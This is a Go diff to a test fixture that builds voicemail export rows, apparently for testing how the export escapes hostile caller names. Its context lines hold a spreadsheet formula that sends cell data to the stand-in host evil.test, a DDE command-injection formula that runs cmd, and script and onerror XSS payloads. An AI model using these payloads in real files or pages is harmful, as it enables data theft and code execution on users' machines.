@@ -47,7 +47,7 @@ func exportFixture() (phones []Phone, rows []exportRow) {
 		}
 		rows = append(rows, r)
 	}
-	add(0, 1, "Ann Exämple", nil)
+	add(0, 1, "Ann Exämple", func(r *exportRow) { r.Parts = []string{r.File + ".note-001.txt", r.File + ".transcript-002.vtt"} })
 	add(1, 2, `=HYPERLINK("http://evil.test/?"&A1,"x")`, func(r *exportRow) { r.State.Read, r.State.Urgent = true, true })
 	add(0, 3, `x;=cmd|' /C calc'!A0`, func(r *exportRow) { r.State.Trashed, r.State.Held, r.Restricted = true, true, true })
 	add(0, 4, `<script>alert(1)</script>"><img src=x onerror=alert(1)>`, func(r *exportRow) { r.Pending = true; r.Envelope.Redirecting = voicemail.ParseCallerID("5550009999") })
